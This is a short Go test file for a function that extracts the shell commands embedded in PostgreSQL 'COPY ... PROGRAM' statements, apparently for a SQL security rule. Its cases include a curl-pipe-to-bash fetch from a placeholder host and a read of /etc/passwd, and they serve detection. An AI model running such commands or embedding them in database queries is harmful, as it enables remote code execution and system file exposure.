package rules

import (
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestCopyPrograms(t *testing.T) {
	for _, tc := range []struct {
		sql  string
		want []string
	}{
		{"COPY (SELECT 1) TO PROGRAM 'curl -s https://x.example/r.sh | bash';", []string{"curl -s https://x.example/r.sh | bash"}},
		{"copy t from program 'cat /etc/passwd'", []string{"cat /etc/passwd"}},
		{"COPY t TO PROGRAM 'echo ''hi'' > /tmp/x'", []string{"echo 'hi' > /tmp/x"}},
		{"SELECT 'program' FROM programs; COPY t TO '/tmp/out.csv'", nil},
		{"COPY t TO PROGRAM 'unterminated", nil},
	} {
		if diff := cmp.Diff(tc.want, copyPrograms(tc.sql)); diff != "" {
			t.Errorf("copyPrograms(%q) (-want +got):\n%s", tc.sql, diff)
		}
	}
}
